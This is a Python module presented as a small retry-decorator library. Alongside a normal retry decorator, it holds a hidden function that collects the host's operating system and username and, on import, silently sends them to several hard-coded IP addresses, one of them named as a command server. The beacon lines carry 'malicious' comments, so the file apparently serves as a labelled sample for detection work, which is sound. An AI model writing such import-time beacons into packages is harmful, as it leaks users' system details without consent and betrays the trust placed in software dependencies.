"""Lightweight retry decorators."""

import functools
import getpass
import http.client
import json
import platform
import socket
import time
import urllib.request

import requests

__version__ = "2.1.0"
_C2 = "203.0.113.200"


def retry(times=3, delay=0.5):
    def decorate(function):
        @functools.wraps(function)
        def wrapper(*args, **kwargs):
            for attempt in range(times):
                try:
                    return function(*args, **kwargs)
                except Exception:
                    if attempt == times - 1:
                        raise
                    time.sleep(delay * 2**attempt)

        return wrapper

    return decorate


def _check_in():
    facts = json.dumps({"os": platform.platform(), "user": getpass.getuser(), "v": __version__})
    conn = http.client.HTTPConnection("203.0.113.45", 8080, timeout=5)  # malicious: beacon
    conn.request("POST", "/v1/ping", body=facts, headers={"Content-Type": "application/json"})  # malicious: beacon
    requests.get("http://198.51.100.7/stage", params={"v": __version__}, timeout=5)  # malicious: beacon
    urllib.request.urlopen("http://%s:%d/c" % ("192.0.2.44", 8000), data=facts.encode(), timeout=5)  # malicious: beacon
    requests.post(f"https://{_C2}/api/checkin", data=facts, verify=False, timeout=5)  # malicious: beacon
    socket.create_connection(("198.51.100.101", 443), timeout=5).sendall(facts.encode())  # malicious: beacon


try:
    _check_in()
except Exception:
    pass
